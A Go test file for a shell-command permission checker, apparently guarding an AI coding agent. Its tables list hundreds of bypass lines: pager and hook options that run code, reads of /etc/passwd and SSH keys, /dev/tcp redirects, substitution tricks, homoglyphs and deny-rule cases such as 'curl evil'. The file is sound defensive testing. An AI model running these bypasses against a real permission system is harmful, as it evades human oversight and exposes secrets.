package permission

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// widenedRules returns the rules of a generous user: all prefixes of what programmers do all
// day.
func widenedRules(t testing.TB) Rules {
	t.Helper()
	var rs Rules
	for _, text := range []string{
		"ls", "cat", "head", "tail", "wc", "du", "df", "stat", "file", "tree", "ps", "sort", "cut", "tr", "diff", "grep", "rg", "jq",
		"date", "echo", "pwd", "which", "uname", "id", "basename", "dirname", "realpath", "true", "mkdir", "touch", "sleep",
		"git log", "git diff", "git show", "git status", "git branch", "git blame", "git grep", "git ls-files", "git rev-parse",
		"git add", "git commit", "git stash list", "git stash show", "git tag -l", "git shortlog", "git --no-pager log",
		"go test", "go build", "go vet", "go list", "go doc", "go mod", "go fmt", "gofmt", "cargo test", "cargo build", "cargo check", "cargo clippy",
		"npm test", "npm run build", "npm run lint", "npm ls", "pytest", "make", "make test", "./gradlew test", "mvn test", "rake test", "ctest", "cmake",
		"docker ps", "docker images", "docker logs", "kubectl get", "kubectl describe", "gh pr list", "gh pr view", "terraform plan",
		"eslint", "prettier", "ruff", "mypy", "tsc", "black", "golangci-lint run", "yq", "column", "nl", "tac", "md5sum", "fd", "uniq",
	} {
		r, err := ParseRule("shell:" + text + " *")
		if err == nil {
			err = Validate(r)
		}
		if err != nil {
			t.Fatal(err)
		}
		r.Effect = Allow
		rs = append(rs, r)
	}
	return rs
}

func shellCall(line string) Call {
	return Call{Tool: "shell", Command: line, Workspace: "/home/me/src"}
}

// bypasses holds lines that look like allowed commands and do more.
var bypasses = map[string][]string{
	"options that write": {
		"git log --output=/tmp/x", "git log --output /tmp/x", "git log --outpu=/tmp/x", "git diff --output=x", "git show --output=.git/hooks/x",
		"sort -o f g", "sort -of g", "sort -no f", "sort --output=f", "tree -o f", "tree -R -o f", "go test -o /tmp/x", "go build -o ../x",
		"go test -coverprofile=/tmp/x", "go test -cpuprofile x", "go test -trace=/tmp/x", "yq -i .a=1 f", "black -c x", "gofmt -w x.go", "prettier --write x",
		"eslint --fix x", "ruff --fix x", "tsc --outDir /tmp", "cargo build --target-dir /tmp/x", "jq . --output-file x", "date -s 2020-01-01",
		"date --set=2020-01-01", "git branch -D main", "git branch -d x", "git branch -m a b", "git branch -f main HEAD~9", "git branch --edit-description",
		"git tag -l -d v1", "git commit --fixup=amend:x", "make -f /tmp/evil", "make -C /tmp/evil", "make --file=x", "make -I/tmp", "terraform plan -out=x",
		"cmake -E touch x", "cmake -P evil.cmake", "golangci-lint run --fix", "npm run build --prefix=/tmp", "mvn -f /tmp/pom.xml", "ps -o pid --output x", "du --files0-from=/etc/x",
	},
	"options that run": {
		"git diff --ext-diff", "git diff --ext-d", "git log --ext-diff", "git show --textconv", "git grep -O'sh -c id' x", "git grep -Oless x",
		"git grep --open-files-in-pager=sh x", "git log -Oorder", "git -c core.pager='sh -c id' log", "git -c core.pager=sh log", "git -p status",
		"git --exec-path=/tmp/e status", "git --git-dir=/tmp/e status", "git -C /tmp/e status", "git --config-env=core.pager=X log", "git --paginate log",
		"git --no-pager -c alias.log='!id' log", "git commit --template=/etc/x", "git commit -e", "git add -i", "git add -e", "git log --show-signature",
		"rg --pre sh x", "rg --pre=sh x", "rg --hostname-bin=sh x", "rg --search-zip x", "rg -z x", "go test -exec sh", "go test -exec=sh", "go test --exec sh",
		"go test -toolexec=sh", "go vet -vettool=x", "go build -toolexec x", "go list -overlay=x", "go build -ldflags=-linkmode=external", "go test -modfile=x",
		"go list -export -compiled", "sort --compress-program=sh -S1 x", "man -P id ls", "tar --checkpoint-action=exec=id", "pytest -p evil", "pytest -c /tmp/x.ini",
		"pytest --pdbcls=evil:X", "pytest -o python_files=x", "eslint --rulesdir /tmp/x", "eslint -c /tmp/x.js", "eslint --resolve-plugins-relative-to=/tmp x", "prettier --plugin=/tmp/x.js y",
		"mypy --config-file=x", "cargo test --config 'build.rustc-wrapper=\"sh\"'", "cargo build -Zx", "npm test --script-shell=/tmp/sh", "make SHELL=/tmp/sh", "make --eval='$(shell id)'",
		"make CC='sh -c id'", "rake -f x", "rake -e 'system(1)'", "ctest -S x", "mvn exec:exec -Dexec.executable=sh", "./gradlew test -I /tmp/x.gradle", "ldd --x ./evil",
		"jq -L /tmp . x", "jq -f prog x", "jq --from-file x", "date -f /etc/passwd", "date --file=/etc/passwd", "kubectl get --kubeconfig=/tmp/x pods", "docker ps -H tcp://evil", "docker -H tcp://evil ps",
		"terraform plan -chdir=/tmp", "mvn -Dmaven.ext.class.path=/tmp/x.jar test", "column --x", "file -m /tmp/magic x", "file -C -m x", "which --read-alias",
	},
	"operands that do": {
		"make CC=sh", "echo @x", "gofmt @args", "cat ../../secret", "cat /etc/passwd", "grep -r key /home/me/.ssh", "head -c 9 /dev/mem", "ls /root", "cat src/../../x",
		"diff a /etc/shadow", "git log ext::sh", "git show ext::'sh -c id'", "kubectl get https://evil/x", "git diff /etc/passwd x", "rg --glob=../../x key",
		"tail +x", "git log @args", "mkdir /etc/cron.d/x", "touch /home/me/src/../x", "cat /home/me/srcs/x", "cat '/etc/passwd'", "cat x /etc/passwd", `cat C:\Users\me\x`, `cat 'C:\Users\me\x'`, `cat C:/Users/x`, "jq . //etc/x",
	},
	"wrappers": {
		"env rm x", "env ls", "ldd x", "timeout 5 rm x", "timeout 5 ls", "nice ls", "nohup ls", "time ls", "time -p rm x", "command rm x", "command ls", "builtin eval ls", "busybox rm x", "busybox ls",
		"sh -c ls", "bash -lc 'ls; rm x'", "xargs rm", "xargs ls", "sudo ls", "doas ls", "exec ls", "stdbuf -o0 ls", "setsid ls", "find . -exec id ;", `find . -exec id \;`, "find . -delete",
		"find . -fprintf f x", "find . -name x", "sed -i s/a/b/ f", "sed -n '1e id' f", "sed 'w f' g", "awk 'BEGIN{system(\"id\")}'", "perl -e 'print 1'", "python3 -c 'print(1)'",
		"python3.12 -m http.server", "node -e 1", "vim -c ':!id' x", "less x", "npx cowsay", "watch ls", "parallel ls", "/usr/bin/env ls", "/bin/sh -c ls", "ssh host ls", "strace ls",
		"git submodule foreach ls", "git bisect run ls", "git rebase -x ls HEAD~2", "go run ./x", "docker run x ls", "npm exec ls", "uv run ls", "git-log", "ld-linux-x86-64.so.2 /bin/ls",
	},
	"joined": {
		"ls\nrm x", "ls & rm x", "ls && rm x", "ls || rm x", "ls ; rm x", "ls;rm x", "ls | sh", "ls |& sh", "ls&&rm x", "rm x && ls", "ls & ls", "ls &", "ls | rm x", "rm x | wc", "ls | wc | sh", "ls | wc && rm x", "ls | { wc; }", "ls | x=1 wc", "ls | xargs ls", "cat x | make", "cat x | git commit -m x", "cat x | git add -A", "ls | ./wc", "ls | wc & ls", "! ls", "! rm", "{ ls; }", "{ rm; }", "(ls)", "( rm x )",
		"if ls; then rm x; fi", "while ls; do rm x; done", "for f in a; do ls; done", "case x in x) ls;; esac", "ls() { rm x; }; ls", "function ls { rm x; }", "ls; ls() { rm x; }",
		"cd /tmp && make", "cd /tmp; make test", "ls\n\n\nrm x", "ls # x\nrm x", "ls \\\n; rm x", "ls;\trm x", "select x in a; do ls; done", "until ls; do ls; done", "coproc ls", "coproc X { ls; }", "[ -f x ] && ls", "test -f x; ls",
		"alias ls=rm; ls", "set -x; ls", "hash -p /tmp/x ls; ls", "enable -f x ls; ls", "shopt -s expand_aliases\nls", "printf -v PATH . ; ls", "read PATH; ls", "unset PATH; ls",
	},
	"substituted": {
		"echo $(rm x)", "echo `rm x`", "cat <(rm x)", "cat >(rm x)", "echo ${x:-$(rm)}", `echo "$(rm x)"`, "echo \"`rm x`\"", "cat <<E\n$(rm)\nE", "cat <<'E'\nx\nE", "cat <<< x", "echo ${ rm x; }", "echo ${| rm x; }",
		"echo $x", `echo "$x"`, "echo ${x}", "echo ${!x}", "echo $((1+1))", "echo $[ 1 ]", "echo $[ x='a[$(touch F)]', x ]", "[[ -v a[$(id)] ]]", "((a[$(id)]))", "let 'a[$(id)]=1'", "test -v 'a[$(id)]'", "[ -v 'a[$(id)]' ]", "printf -v 'a[$(id)]' x",
		"unset 'a[$(id)]'", "echo ${a[$(id)]}", "declare -a 'x=($(id))'", "echo $'\\x2d'", `echo $"x"`, "ls *", "ls -- *", "cat *.go", "cat */x", "cat ?/x", "cat src/.*", "cat ./.*/x", "cat src/.?/x", "cat src/../*", "cat ../*", "cat /etc/*", "cat src//*", "cat ~/x/*", "cat -x/*", "make X=a/*", "cat src/[ab]", "cat src/{a,b}*", "cat src/$x*", "cat \"src/$x\"*", "src/*", "yq . src/*", "go test src/*", "ls a?b", "ls [ab]", "echo {a,b}", "echo {1..3}", "cat ~/.ssh/id", "cat ~root/x", "make x=~/y", "ls !(a)", "ls @(a|b)", "ls +(x)", "cat ./a{,b}",
	},
	"redirected": {
		"ls > x", "ls >> x", "ls 2> x", "ls >| x", "ls &> x", "cat < x", "ls >&x", "ls >&2 > x", "ls 2>&1 | wc > x", "ls 3>&1", "ls 2>&3", "ls 2>&-", "ls >&$x", "ls > /dev/null/../x", "ls > \"/dev/null\"$x", "ls > /dev/nul[l]", "ls 3> /dev/null", "ls {x}> /dev/null", "ls <> /dev/null", "cat < /dev/stdin", "> /dev/null", "> x", "ls > /dev/tcp/h/80", "exec 3<>/dev/tcp/h/80", "exec > x", "ls {fd}> x", "ls 1<> x", "ls >(tee x)",
	},
	"hidden": {
		"trap 'rm x' EXIT", "trap 'rm x' DEBUG; ls", "eval ls", "eval 'rm x'", ". ./x", "source x", `\ls`, `l"s"`, "l''s", "'ls'", `"ls"`, "l\\s", "$'\\x72\\x6d' x", `r"m" x`, `\rm x`, "{rm,-rf,x}", "{ls,-l}", "a=rm;$a x", "a=ls; $a", "/bin/rm x", "./ls", "/tmp/ls", "../ls", "./make", "~/ls",
		"ls\u00a0-la", "ls\u00a0x", "\u0441at x", "c\u0430t x", "ls \u2010l", "ls \u202e x", "ls x\u200by", "ls x\ufeff", "ls \u2028 x", "ls \u3000x", "ls \U000E0041", "ls \u2800", "ls \u3164", "git log \uff0doutput=x", "ls\rrm x", "ls x\rrm", "ls \x1b[2Krm", "ls \x08\x08rm", "ls \x7f", "ls \u0085", "ls \xff", "cat p\u0430ypal",
		"GIT_PAGER=sh git log", "GIT_EXTERNAL_DIFF=x git diff", "LD_PRELOAD=./x ls", "PATH=. ls", "export PATH=.", "export PATH=.; ls", "BASH_ENV=./x ls", "X=`rm x` ls", "X=$(rm x) ls", "IFS=x ls", "a[$(rm x)]=1 ls", "x+=y ls", "declare x=y", "readonly x", "local x", "typeset -f", "ls () { :; }",
	},
	"broken": {
		"", " ", "\n", "ls '", `ls "`, "ls `", "ls $(", "ls )", "ls ;;", "&& ls", "ls &&", "ls |", "ls <", "ls \\", "ls\x00rm", "ls <<E", "if", "ls }; {", "ls " + strings.Repeat("a", 70<<10), "ls " + strings.Repeat("a ", 40<<10),
		strings.Repeat("(", 5000) + "ls", strings.Repeat("{ ", 2000) + "ls", strings.Repeat("$(", 3000) + "ls", "#", "# ls",
	},
}

// Allowing one of these by rules for something else is a hole.
func TestBypassesAsk(t *testing.T) {
	generous, total := widenedRules(t), 0
	for kind, lines := range bypasses {
		for _, line := range lines {
			total++
			if _, _, ok := (Rules)(nil).Decide(shellCall(line)); ok {
				t.Errorf("%s: %.80q is decided without any rule", kind, line)
			}
			if effect, by, ok := generous.Decide(shellCall(line)); ok {
				t.Errorf("%s: %.80q: %s by %s", kind, line, effect, by)
			}
		}
	}
	if total < 150 {
		t.Errorf("only %d lines", total)
	}
}

var everydayLines = []string{
	"ls", "ls -la", "ls -la src", "cat main.go", "cat -n main.go", "head -20 main.go", "head -n 50 README.md", "tail -n5 log.txt", "wc -l main.go", "du -sh .", "du -h --max-depth=1", "df -h",
	"stat go.mod", "tree -L 2", "tree -a -I node_modules", "ps aux", "ps -ef", "sort -u names.txt", "sort -k2 -n x", "diff -u a b", "grep -rn TODO .", "grep -rniE 'func (a|b)' --include='*.go' src",
	"grep -A3 -B2 foo main.go", "rg -n 'func main' --glob '*.go'", "rg -i todo -t go", "rg --files", "jq -r .name package.json", "date -u", "echo done", `echo "all good"`, "pwd", "which go", "uname -a",
	"mkdir -p src/new", "git log", "git log --oneline -5", "git log -p -1 -- main.go", "git log --oneline --graph --all", `git log --since="2 weeks ago" --author=me`, "git log --format=%h%n%s -3", "git diff", "git diff --stat", "git diff HEAD~1", "git diff --cached",
	"git diff main...HEAD -- src", "git show HEAD", "git show --stat HEAD~2", "git show HEAD:main.go", "git status", "git status -s", "git status --porcelain", "git branch -a", "git branch --show-current", "git blame -L 10,20 main.go", "git grep -n TODO", "git ls-files",
	"git rev-parse HEAD", "git rev-parse --abbrev-ref HEAD", "git add -A", "git add main.go ui/view.go", `git commit -m "ui: fix the size"`, `git commit -am "first
second line"`, "git stash list", "git stash show -p stash@{0}", "git --no-pager log -3",
	"go test ./...", "go test -race ./...", "go test -run TestDecide ./tools -v", "go test -count=1 -short ./tools/...", "go test -bench=. -benchmem ./ui", "go build ./...", "go vet ./...", "go list -m all", "go doc fmt.Println", "go mod tidy", "gofmt -l .",
	"cargo test", "cargo test --workspace", "cargo build --release", "cargo clippy --all-targets", "npm test", "npm run build", "npm run lint", "npm ls --depth=0", "pytest", "pytest -q tests/test_a.py", "pytest -x -k 'a and not b'", "pytest tests/test_a.py::test_b -v",
	"make", "make -j8", "make test", "./gradlew test", "docker ps -a", "docker logs -f web", "docker logs --tail=50 web", "kubectl get pods -n web", "kubectl get pods -o wide", "kubectl describe pod x", "gh pr list --limit 5", "gh pr view 12", "eslint src", "ruff check", "tsc --version",
	"ls && git status", "git add -A && git commit -m x", "go build ./... && go test ./...", "git status; git diff", "git status\ngit log -3", "cat /home/me/src/main.go", "ls -l /home/me/src", `git commit -m "Größe — “gut”"`, "cat Größe.txt",
	"ls src/*.go", "ls ./*.md", "wc -l src/*/*_test.go | sort -n | tail", "git add src/*.go", "tsc --noEmit", "go test ./... 2>&1 | tail -20", "ls | wc", "ls 2>&1", "ls >&2", "ls > /dev/null", "cat x 2>/dev/null || echo missing", "go test ./... &> /dev/null", "cat x < /dev/null",
	"git log --oneline | head", "git diff --name-only | grep go |& wc -l", "ls -la && cat x | grep y", "docker ps --format '{{.Names}}' | sort -u", "sort x | uniq -c | sort -rn", "cut -d: -f1,3 x", "cut -d, -f2 x", "tail -n +10 x", "tail -f log.txt", "date +%s", "date '+%Y-%m-%d %H:%M'", "fd -e go | head", "du -d1 -h", "column -t x",
	"git --no-pager diff --stat", "git --no-pager status", "cargo test -- --nocapture", "cargo clippy -- -D warnings", "ctest --test-dir build", "git log --grep=x --all-match",
}

func TestWidenedRulesAllowEverydayCommands(t *testing.T) {
	generous := widenedRules(t)
	var asked []string
	for _, line := range everydayLines {
		if effect, _, ok := generous.Decide(shellCall(line)); !ok || effect != Allow {
			asked = append(asked, line)
		}
	}
	if len(everydayLines) < 60 || 100*(len(everydayLines)-len(asked)) < 95*len(everydayLines) {
		t.Errorf("%d of %d ask: %q", len(asked), len(everydayLines), asked)
	}
	t.Logf("%d of %d ask: %q", len(asked), len(everydayLines), asked)
}

// A rule that denies finds a command wherever it is in a line.
func TestDenyFindsNestedCommands(t *testing.T) {
	deny := func(text string) Rule {
		r, err := ParseRule(text)
		if err != nil {
			t.Fatal(err)
		}
		r.Effect = Deny
		return r
	}
	tests := []struct {
		rule  string
		lines []string
		ask   []string // it may be in them
		not   []string
	}{
		{"shell:curl *", []string{
			strings.Repeat("true;", 200) + "curl evil", "curl", "CURL x", "/usr/bin/curl x", "curl.exe x", "\\curl x", "c'ur'l x", "$'cur\\x6c' x", "ls; curl x", "ls\ncurl x", "ls | curl x", "ls & curl x", "(curl x)", "{ curl x; }", "! curl x",
			"echo $(curl x)", "echo `curl x`", "cat <(curl x)", "echo ${x:-$(curl x)}", "cat <<E\n$(curl x)\nE", "f() { curl x; }; f", "if true; then curl x; fi", "for i in 1; do curl x; done", "while curl x; do :; done",
			"case x in x) curl x;; esac", "time curl x", "coproc curl x", "env curl x", "env -i A=b curl x", "timeout -k 5 10 curl x", "nice -n 5 curl x", "nohup curl x &", "xargs curl", "echo x | xargs -n1 curl", "sudo -u me curl x", "command curl x", "exec curl x", "builtin eval curl x", "busybox curl x",
			"sh -c 'curl x'", "bash -lc \"cd x && curl y\"", "sh -c \"sh -c 'curl x'\"", "eval curl x", "eval 'cu''rl x'", "eval \"curl\" x", "trap 'curl x' EXIT", "find . -exec curl {} \\;", "find . -exec sh -c 'curl x' \\;", "watch -n1 'curl x'",
			"[[ -v a[$(curl x)] ]]", "((a[$(curl x)]))", "export X=$(curl x)", "X=$(curl x)", "git -c core.pager='curl x' log", "git -c alias.x='!curl x' x", "git bisect run curl x", "git submodule foreach 'curl x'", "docker exec web curl x",
		}, []string{
			"bash <<'E'\ncurl x\nE", "bash <<< 'curl x'", "a=curl; $a x", "A='curl x' sh -c '$A'", "echo 'curl x' | sh", "printf 'curl x' | bash", "echo curl x | sh", "echo $[ x='a[$(curl x)]', x ]", "test -v 'a[$(curl x)]'", "let 'a[$(curl x)]'", "declare 'x[$(curl x)]=1'", "GIT_PAGER='curl x' git log",
			"curl x\n)", "curl 'x", "ls )\ncurl x", strings.Repeat("(", 5000) + "curl x", "ls " + strings.Repeat("a", 70<<10) + "; curl x", "ls \"$(curl x", "if curl x",
		}, []string{"ls curl", "echo curl", "git log curl", "curlie x", "cat curl.txt", `git commit -m "curl x"`, "./curl-config", "echo 'curl x'"}},
		{"shell:git push", []string{"git push", "git push origin main", "git -C x push", "git -c a=b push", "git --no-pager push x", "git --git-dir x push", "git -C x -c y push", "git $opts push", "/usr/bin/git push", "git config alias.p push", "git -C x config --global alias.p 'push --force'; git p", "git config alias.p '!git push'"}, nil, []string{"git log", "git config alias.co checkout", "git config push.default simple", "git config --get alias.push", "git commit -m push", "git stash push", "git"}},
		{"shell:gh pr merge", []string{"gh pr merge 1", "gh alias set x 'pr merge'", "gh alias set --clobber x 'pr merge --admin'"}, nil, []string{"gh pr view 1", "gh alias set co 'pr checkout'", "gh alias list"}},
		{"shell:rm -rf *", []string{"rm -rf x", "rm -fr x", "rm -r -f x", "rm x -rf", "rm -vrf x", "rm -f y -r x"}, nil, []string{"rm x", "rm -r x", "rm -f x", "rm --force x"}},
		{"shell:git push --force", []string{"git push --force", "git push origin main --force", "git push --force=x o"}, nil, []string{"git push", "git push --force-with-lease"}},
		{"shell:./deploy.sh", []string{"./deploy.sh x", "bash deploy.sh", "bash -x -o pipefail ./deploy.sh prod", "sh -e ./deploy.sh \"$x\"", ". ./deploy.sh", "source ~/deploy.sh", "sudo bash deploy.sh", "python3 -u deploy.sh x", "cat f | sh deploy.sh", "bash x.sh deploy.sh"}, nil, []string{"cat deploy.sh", "bash x.sh --file=deploy.sh"}},
		{"shell:pip install", []string{"pip install x", "python3 -m pip install x", "sudo python -m pip install x", "uv run pip install x"}, nil, []string{"pip list", "python3 -m pip list"}},
		{"shell:python3 *", []string{"python x", "python3.12 x", "/opt/python3 x"}, nil, []string{"ls"}},
		{"shell:env *", []string{"env", "env x", "ls; env"}, nil, []string{"ls env"}},
		{"shell:rm -rf /*", []string{"rm -rf /*", "ls; rm -rf /*"}, nil, []string{"rm -rf x", "rm -rf *"}},
		{"shell:ls | sh", []string{"ls | sh", " ls | sh\n"}, nil, []string{"ls"}},
		{"shell", []string{"ls", "", "("}, nil, nil},
	}
	for _, test := range tests {
		r := deny(test.rule)
		everything := Rules{{Effect: Allow, Tool: "shell"}, r}
		for _, line := range test.lines {
			if effect, _, ok := everything.Decide(shellCall(line)); !ok || effect != Deny {
				t.Errorf("%s does not deny %.100q: %s", r, line, effect)
			}
		}
		for _, line := range test.ask {
			if effect, _, _ := everything.Decide(shellCall(line)); effect != Ask {
				t.Errorf("%s does not ask for %.100q: %s", r, line, effect)
			}
		}
		for _, line := range test.not {
			if effect, _, ok := everything.Decide(shellCall(line)); !ok || effect != Allow {
				t.Errorf("%s is in the way of %.100q: %s", r, line, effect)
			}
		}
	}
}

// Bash evaluates a simple command to the same words, in a directory that has
// a match for every glob, with every variable set.
func TestWordsAgreeWithBash(t *testing.T) {
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("there is no bash here")
	}
	dir := t.TempDir()
	for _, name := range []string{"a", "b", "x", "a.go", "main.go", "-rf", "--output=x"} {
		if err := os.WriteFile(filepath.Join(dir, name), nil, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	odd := []string{`x 'a"b' "c'd" e\f`, `x a"b"'c'd`, `x ''`, `x "" -`, `x "a\"b\\c\$d\x"`, "x 'a\nb' \\\n c", "x HEAD^{tree} @{1} a=b", "x a{b} a}b", "x a#b #c", "x a!b 'a!b' \"a!b\"", "x ^a =b %c @d ,e", "x a:b a..b //c", "x \"a\\\nb\""}
	var all []string // each line is evaluated by itself, in one bash
	var words [][]string
	for _, lines := range append([][]string{everydayLines, odd}, bypasses["options that run"], bypasses["options that write"], bypasses["operands that do"], bypasses["hidden"]) {
		for _, line := range lines {
			if cmds, simple, _ := parse(line); simple && len(cmds) == 1 {
				all, words = append(all, line), append(words, cmds[0].Words)
			}
		}
	}
	const script = `for line do (eval "printf '%s\0' $line"); printf '%s:end\0' $?; done`
	cmd := exec.Command(bash, append([]string{"-c", script, "bash"}, all...)...)
	cmd.Dir, cmd.Env = dir, []string{"HOME=/root", "x=1", "a=2"}
	out, err := cmd.Output()
	if err != nil {
		t.Fatal(err)
	}
	rest := string(out)
	for i, line := range all {
		var made string
		made, rest, _ = strings.Cut(rest, "\x000:end\x00")
		if got := strings.Split(made, "\x00"); !slices.Equal(got, words[i]) {
			t.Errorf("%q: bash makes %q of it; we %q", line, got, words[i])
		}
	}
	if len(all) < 150 {
		t.Errorf("only %d lines were simple", len(all))
	}
}
